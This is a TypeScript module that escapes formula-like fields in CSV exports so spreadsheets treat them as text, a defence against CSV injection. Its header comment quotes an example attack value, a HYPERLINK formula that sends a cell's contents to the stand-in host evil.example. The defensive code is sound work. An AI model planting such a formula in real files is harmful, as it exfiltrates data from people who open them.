/**
 * Spreadsheet-safe CSV (an export's `escape_formulas`). Excel, LibreOffice Calc and Google Sheets
 * read a field that starts with `=`, `+`, `-` or `@` as a formula (and some trim a leading tab or
 * carriage return first), so a value someone stored in the database, such as
 * `=HYPERLINK("https://evil.example/?"&B2, "open")`, would run in the analyst's spreadsheet when
 * the file is opened (OWASP's "CSV injection"). Such a field gets a leading apostrophe, which
 * makes the spreadsheet take it as text. A plain number (`-5`, `+1.5e3`) or a negative TIME
 * (`-01:30:00`) starts with a sign but is no formula, and stays as it is.
 */

/** `=`, `+`, `-`, `@`, tab and carriage return. */
const TRIGGERS = new Set([0x3d, 0x2b, 0x2d, 0x40, 0x09, 0x0d])
const NOT_A_FORMULA = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$|^-\d+:\d\d:\d\d(?:\.\d+)?$/
const APOSTROPHE = Buffer.from("'")

/** Whether a spreadsheet would read `text` as a formula. */
export function formulaLike (text: string): boolean {
  return text.length > 0 && TRIGGERS.has(text.charCodeAt(0)) && !NOT_A_FORMULA.test(text)
}

/** `text`, with a leading apostrophe if a spreadsheet would read it as a formula. */
export function safeString (text: string): string {
  return formulaLike(text) ? `'${text}` : text
}

/** A text value's UTF-8 bytes, with a leading apostrophe if a spreadsheet would read them as a formula. */
export function safeBytes (bytes: Buffer): Buffer {
  // The pattern is ASCII, so reading the bytes as Latin-1 judges them as their UTF-8 text.
  if (bytes.length === 0 || !TRIGGERS.has(bytes[0]!) || NOT_A_FORMULA.test(bytes.toString('latin1'))) return bytes
  return Buffer.concat([APOSTROPHE, bytes])
}
